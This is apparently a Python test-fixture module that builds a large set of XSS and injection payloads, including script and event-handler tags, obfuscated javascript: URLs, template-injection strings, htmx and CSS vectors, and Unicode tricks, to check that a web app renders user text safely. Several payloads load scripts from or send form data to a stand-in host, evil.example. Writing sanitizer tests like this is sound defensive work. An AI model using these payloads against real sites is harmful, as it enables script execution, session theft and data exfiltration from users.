"""Texts that would run, lie or break out, were they shown as they are. Vectors are combined with contexts.

Whatever runs sets `window.__pwned` or opens a dialog, so that a trap in a real browser sees it.
"""

from html import escape
from urllib.parse import quote

RUN = "window.__pwned=1;alert(1)"
CALL = "window.__pwned=alert`1`"

# --- markup ------------------------------------------------------------------------------------------

_MARKUP = (
    f"<script>{RUN}</script>",
    f"<SCRIPT/x>{RUN}</SCRIPT\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=data:text/javascript,window.__pwned=1></script>",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={CALL}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img/src='x'/onerror='{RUN}'>",
    f"<IMG SRC=x OnErRoR={CALL}",
    f"<img src=x:x onerror\n=\n{CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg/onload={CALL}//",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>go</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}></style></mglyph></table></mtext></math>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "<iframe src=//evil.example></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    f"<embed src='javascript:{RUN}'>",
    "<style>body{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=choice><button>Next</button></form>",
    f"<form><button formaction='javascript:{RUN}'>Next</button></form>",
    f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<body onload={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<div onpointerenter={CALL} style='position:fixed;inset:0'>x</div>",
    f"<template><img src=x onerror={CALL}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'></noscript>",
    f"<xmp><img src=x onerror={CALL}></xmp>",
    f"<a href='javascript:{RUN}' id=question name=question>Next</a>",
    "<form id=question-form><input name=csrfmiddlewaretoken></form>",
)  # fmt: skip

_PLACES = {
    "bare": "{}",
    "line": "Text before {} and after.",
    "code": "`{}`",
    "list": "- {}",
    "quote": "> {}",
    "heading": "## {}",
    "link text": "[{}](https://example.org)",
    "quoted": '">{}',
    "single quoted": "'>{}",
    "comment": "-->{}",
    "select": "</option></select>{}",
    "rawtext": "</textarea></title></style></script>{}",
}

_ENTITIES = (
    escape(f"<script>{RUN}</script>"),
    escape(escape(f"<img src=x onerror={CALL}>")),
    "".join(f"&#{ord(sign)};" for sign in f"<img src=x onerror={CALL}>"),
    "".join(f"&#x{ord(sign):X}" for sign in f"<svg onload={CALL}>"),
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&LT;img src=x onerror=window.__pwned=1&GT;",
    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "\\x3cscript\\x3ewindow.__pwned=1\\x3c/script\\x3e",
    "\\<script>window.__pwned=1\\</script>",
    "&#00000000000000000060;script&#62;window.__pwned=1",
)

# --- addresses ---------------------------------------------------------------------------------------

_ADDRESSES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6A;&#x61;vascript&#58;{CALL}",
    f"java&Tab;script:{CALL}",
    f"java&NewLine;script:{CALL}",
    f"java\tscript:{CALL}",
    f"\x01javascript:{CALL}",
    f"&#1;javascript:{CALL}",
    f"javascript%3A{CALL}",
    f"javascript\\:{CALL}",
    f"javascript://example.org/%0A{CALL}",
    f"  javascript:{CALL}",
    f"\u00a0javascript:{CALL}",
    f"java\u200bscript:{CALL}",
    f"ｊａｖａｓｃｒｉｐｔ:{CALL}",
    f"vbscript:{CALL}",
    f"livescript:{CALL}",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html,x",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    "filesystem:https://example.org/x",
    f"view-source:javascript:{CALL}",
    f"jar:javascript:{CALL}",
    f"feed:javascript:{CALL}",
    '" onclick="window.__pwned=1',
    "' onclick='window.__pwned=1",
    "https://example.org/\" onmouseover=\"window.__pwned=1",
    "https://example.org/><img src=x onerror=window.__pwned=1>",
)  # fmt: skip

_LINKS = {
    "link": "[go]({})",
    "angle link": "[go](<{}>)",
    "titled link": '[go]({} "x")',
    "image": "![go]({})",
    "autolink": "<{}>",
    "reference": "[go][x]\n\n[x]: {}",
    "shortcut": "[x]\n\n[x]: <{}> 'y'",
    "image in link": "[![go]({0})]({0})",
}

# --- the rest ----------------------------------------------------------------------------------------

_ATTRIBUTES = (
    '[go](https://example.org "x\\" onclick=\\"window.__pwned=1")',
    "[go](https://example.org 'x\" autofocus onfocus=window.__pwned=1 x=\"')",
    '[go](https://example.org "</a><script>window.__pwned=1</script>")',
    '![" onerror="window.__pwned=1](x)',
    "![x](x\"onerror=window.__pwned=1 \"y\")",
    "```x\" onclick=\"window.__pwned=1\nbody\n```",
    "```<script>window.__pwned=1</script>\nbody\n```",
    "```python\n<script>window.__pwned=1</script>\n```",
    "~~~html\n<img src=x onerror=window.__pwned=1>\n~~~",
    '1234567890" onclick="window.__pwned=1. x',
    '" autofocus onfocus="window.__pwned=1" x="',
    "' autofocus onfocus='window.__pwned=1' x='",
    "`` autofocus onfocus=window.__pwned=1 x=``",
    '"></select><svg/onload=window.__pwned=1>',
    "&quot; onmouseover=&quot;window.__pwned=1",
    "| a | b |\n|---|---|\n| <img src=x onerror=window.__pwned=1> | [x](javascript:window.__pwned=1) |",
    "|a|\n|:-\" onclick=\"window.__pwned=1|",
)  # fmt: skip

_TEMPLATES = (
    "{{ settings.SECRET_KEY }}",
    "{{ request.user.password }}",
    "{% load static %}{% include 'admin/base.html' %}",
    "{% debug %}",
    "{% autoescape off %}<script>window.__pwned=1</script>{% endautoescape %}",
    "{# comment #}{{ 7|add:7 }}",
    "{0.__class__.__mro__}",
    "%(password)s %s %d %n",
    "${window.__pwned=1}",
    "#{window.__pwned=1}",
    "<%= window.__pwned=1 %>",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "[[${window.__pwned=1}]]",
    "{'go': 'review', 'onload': 'window.__pwned=1'}",
)

_HTMX = (
    "<div hx-get=/accounts/my-data.json hx-trigger=load>x</div>",
    "<div data-hx-get=/accounts/my-data.json data-hx-trigger=load>x</div>",
    "<div hx-post=/attempts/ hx-trigger=revealed>x</div>",
    "<div hx-on:click='window.__pwned=1'>x</div>",
    "<div hx-on::load='window.__pwned=1'>x</div>",
    "<div hx-on='htmx:load: window.__pwned=1'>x</div>",
    "<div hx-vals='js:{x: window.__pwned=1}' hx-get=/ hx-trigger=load>x</div>",
    "<div hx-headers='js:{x: window.__pwned=1}' hx-get=/ hx-trigger=load>x</div>",
    "<div hx-get=/ hx-trigger='load[window.__pwned=1]'>x</div>",
    "<div id=clock hx-swap-oob=true data-remaining=0>x</div>",
    "<button id=flag hx-swap-oob=outerHTML>x</button>",
    "<meta name=htmx-config content='{\"allowEval\":true}'>",
    "<div hx-ext=x hx-boost=true hx-history-elt><a href=//evil.example>x</a></div>",
    "<input name=was value=x form=question-form>",
    "<button form=question-form name=go value=review>x</button>",
)

_STYLES = (
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style=\"background:url('javascript:window.__pwned=1')\">x</p>",
    "<p style='width:expression(window.__pwned=1)'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#x)'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<span class='visually-hidden notice--bad is-key'>x</span>",
    "</style><style>*{background:url(//evil.example)}</style>",
    "@import url(//evil.example/x.css);",
    "<font color=expression(window.__pwned=1)>x</font>",
    "<table background=//evil.example/x><tr><td background='javascript:window.__pwned=1'>x</table>",
)

_POLICY = (
    "<script nonce=x>window.__pwned=1</script>",
    "<script src=/static/js/room.js onload=window.__pwned=1></script>",
    "<script src=/accounts/my-data.json></script>",
    "<script src='data:,window.__pwned=1'></script>",
    "<iframe src=/admin/ onload=window.__pwned=1></iframe>",
    "<img src='//evil.example/?",
    "<a href=//evil.example target='",
    "<textarea>swallows the rest",
    "<plaintext>",
    "<!-- swallows the rest",
    "<![CDATA[<img src=x onerror=window.__pwned=1>]]>",
    "<?xml version='1.0'?><x>",
    "<!doctype html><html><head><base href=//evil.example>",
    "</main></body></html><script>window.__pwned=1</script>",
    "</label></fieldset></form><form action=//evil.example>",
)

_SIGNS = (
    "\u202e<script>window.__pwned=1</script>\u202c",
    "\u202egnp.exe\u202c right to left",
    "\u2066\u2067isolates that are never closed",
    "\u2067\u202b\u202a\u202d\u200f\u061c embedded",
    "p\u200baypal.example z\u200c\u200de\u2060r\ufeffo",
    "аррӏе.example in another script",
    "ѕсrірt <ѕсrірt>window.__pwned=1</ѕсrірt>",
    "＜script＞window.__pwned=1＜/script＞",
    "‹script›window.__pwned=1‹/script›",
    "\ufe64script\ufe65window.__pwned=1",
    "<\u0130mg src=x onerror=window.__pwned=1>",
    "<\u017fcript>window.__pwned=1</\u017fcript>",
    "\u0301\u0302\u0303 marks without a letter",
    "Z" + "\u0346\u0321\u0489" * 60,
    "\ufffe\uffff\U0001ffff\U0010ffff no signs",
    "\x01\x02\x08\x0b\x0c\x0e\x1b\x7f control",
    "\x1b]0;title\x07\x1b[2J terminal",
    "\u0085\u2028\u2029window.__pwned=1//\u2028 line ends",
    "\U000e0041\U000e0042\U000e007f tags",
    "\ue000\uf8ff private",
    "👩\u200d👩\u200d👧\u200d👦🏳\ufe0f\u200d🌈",
    "ﷺ" * 40,
    "x" * 90,
    "\u3164\u115f\u1160 blank letters",
    quote("\u202e<img src=x onerror=window.__pwned=1>"),
    "\ufeff<script>window.__pwned=1</script>",
    "+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-",
    "\u00bcscript\u00bewindow.__pwned=1\u00bc/script\u00be",
)  # fmt: skip


def _all() -> dict[str, str]:
    named = {
        f"markup {n} in {place}": pattern.format(text)
        for n, text in enumerate(_MARKUP, start=1)
        for place, pattern in _PLACES.items()
    }
    named |= {
        f"address {n} as {shape}": pattern.format(address)
        for n, address in enumerate(_ADDRESSES, start=1)
        for shape, pattern in _LINKS.items()
    }
    for kind, texts in (
        ("entities", _ENTITIES),
        ("attribute", _ATTRIBUTES),
        ("template", _TEMPLATES),
        ("htmx", _HTMX),
        ("style", _STYLES),
        ("policy", _POLICY),
        ("signs", _SIGNS),
    ):
        named |= {f"{kind} {n}": text for n, text in enumerate(texts, start=1)}
    return named


PAYLOADS = _all()

# The database holds no NUL and no half of a pair: these must be refused in a sentence, never met with an error.
UNSTORABLE = ("\0", "a\0b", "\0<script>window.__pwned=1</script>", "java\0script:alert(1)", "x" * 40 + "\0")


def fitting(length: int) -> list[str]:
    """The payloads that a field of this length takes, in the order of their names' kinds."""
    return [text for text in PAYLOADS.values() if len(text) <= length]
